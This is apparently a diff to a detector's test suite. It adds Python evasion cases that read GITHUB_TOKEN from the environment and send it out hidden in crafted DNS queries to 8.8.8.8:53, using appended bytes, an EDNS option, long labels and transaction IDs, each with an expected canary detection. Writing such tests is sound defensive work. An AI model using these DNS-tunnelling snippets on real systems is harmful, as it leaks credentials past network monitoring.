@@ -23,6 +23,15 @@ function python(name: string, expected: Expected, ...lines: string[]): Evasion {
   return { name, path: "a.py", text, ...{ deeds: [], programs: [], beyond: [] }, ...expected };
 }
 
+/** `send` sends a message to a name server; `question` makes one that asks for an address. */
+const QUESTION = [
+  "s=socket.socket(socket.AF_INET,socket.SOCK_DGRAM)",
+  "def send(message): s.sendto(message,('8.8.8.8',53))",
+  "def question(*labels,more=0):",
+  "  name=b''.join(bytes([len(label)])+label for label in labels)",
+  "  return b'\\0\\1\\1\\0\\0\\1\\0\\0\\0\\0\\0'+bytes([more])+name+b'\\0\\0\\1\\0\\1'",
+].join("\n");
+
 export const EVASIONS: Evasion[] = [
   shell(
     "renames the folder of a key through a link",
@@ -135,5 +144,29 @@ s.sendto(b"x",("169.254.169.254",7000))'`,
     { beyond: ["payloads"] },
     "s=socket.socket(socket.AF_INET,socket.SOCK_DGRAM)",
     "for i in range(600): s.sendto(b'x%d'%i,('203.0.113.8',7000))",
+  ),
+  python(
+    "puts a secret behind a question for a name",
+    { deeds: ["sent_canary $GITHUB_TOKEN to 8.8.8.8:53"] },
+    ...[QUESTION, "send(question(b'www',b'example')+os.environ['GITHUB_TOKEN'].encode())"],
+  ),
+  python(
+    "puts a secret into an option of a question for a name",
+    { deeds: ["sent_canary $GITHUB_TOKEN to 8.8.8.8:53"] },
+    ...["import struct", QUESTION, "t=os.environ['GITHUB_TOKEN'].encode()"],
+    "option=struct.pack('!HH',65001,len(t))+t",
+    "send(question(b'www',b'example',more=1)+b'\\0'+struct.pack('!HHIH',41,4096,0,len(option))+option)",
+  ),
+  python(
+    "puts a secret behind 255 characters of a name",
+    { deeds: [`sent_canary $GITHUB_TOKEN to ${"a".repeat(63)}.example`] },
+    ...[QUESTION, "t=os.environ['GITHUB_TOKEN'].encode()"],
+    "send(question(b'0',*[b'a'*63]*4,t,b'a'*63,b'example'))",
+  ),
+  python(
+    "spreads a secret over the numbers of questions",
+    { deeds: ["sent_canary $GITHUB_TOKEN to 8.8.8.8:53"] },
+    ...[QUESTION, "t=os.environ['GITHUB_TOKEN'].encode()"],
+    "for i in range(0,len(t),2): send(t[i:i+2]+question(b'www',b'example')[2:])",
   ),
 ];
